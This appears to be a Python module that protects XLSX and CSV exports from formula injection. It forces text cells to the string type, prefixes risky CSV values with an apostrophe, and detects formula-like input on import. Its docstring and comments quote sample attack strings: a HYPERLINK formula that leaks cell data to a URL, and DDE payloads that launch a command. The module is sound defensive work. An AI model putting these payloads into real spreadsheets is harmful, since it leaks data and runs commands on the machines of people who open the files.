"""The one way every XLSX and CSV the system produces writes a cell: user text is always text.

A spreadsheet runs a cell as a formula when it starts with = + - @ (and some also after a tab or
CR), so `=HYPERLINK("http://…/?leak="&A1)` in a project's name would leak data or run a command
when an officer opens the export. XLSX cells of text get the string type (never "f"); CSV text that
could be read as a formula gets a leading apostrophe, which Excel and LibreOffice show as text.
"""

import csv
import io
import re

# What a spreadsheet may read as the start of a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)*$")
# Import guard: text a spreadsheet would run when exported again, including the forms that start
# with a sign and a number (-2+3+cmd|' /C calc'!A0, +1+cmd|…) and DDE pipes.
_FORMULA = re.compile(
    r"^\s*[=@]"  # =SUM(…), @SUM(…)
    r"|^\s*[+-]\s*[A-Za-z(]"  # -cmd|…, +A1, -SUM(…)
    r"|^\s*[+-]\s*[\d.,]+\s*[-+*/^&|(=<>!]"  # -2+3+cmd|…, +1+cmd|…
    r"|^\s*[+-].*\|"  # a sign at the start and a DDE pipe anywhere
)


def looks_like_formula(text: str) -> bool:
    """True for imported text that a spreadsheet would evaluate (refuse it at the door)."""
    return bool(_FORMULA.match(text or ""))


def risky(text: str) -> bool:
    """Text a spreadsheet could read as a formula, unless it is a plain number like -500."""
    return bool(text) and text.startswith(FORMULA_START) and not _NUMBER.match(text)


def csv_value(value):
    """A CSV field: text that could be a formula gets a leading apostrophe; other values as is."""
    if isinstance(value, str) and risky(value):
        return "'" + value
    return value


def put(ws, row: int, col: int, value):
    """Write one openpyxl cell; text is stored as a string, never as a formula."""
    cell = ws.cell(row, col)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


def append(ws, values: list) -> None:
    """ws.append(values) with every text cell of the new row written as text."""
    ws.append(values)
    for cell in ws[ws.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


class SafeWriter:
    """csv.writer whose rows go through csv_value."""

    def __init__(self, stream, **kwargs):
        self._w = csv.writer(stream, **kwargs)

    def writerow(self, row):
        return self._w.writerow([csv_value(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):
    """csv.DictWriter whose values (and header) go through csv_value."""

    def writeheader(self):
        return self.writer.writerow([csv_value(f) for f in self.fieldnames])

    def _dict_to_list(self, rowdict):
        return [csv_value(v) for v in super()._dict_to_list(rowdict)]


def csv_text(rows: list[dict], fieldnames: list[str]) -> str:
    buf = io.StringIO()
    writer = SafeDictWriter(buf, fieldnames=fieldnames)
    writer.writeheader()
    writer.writerows(rows)
    return buf.getvalue()
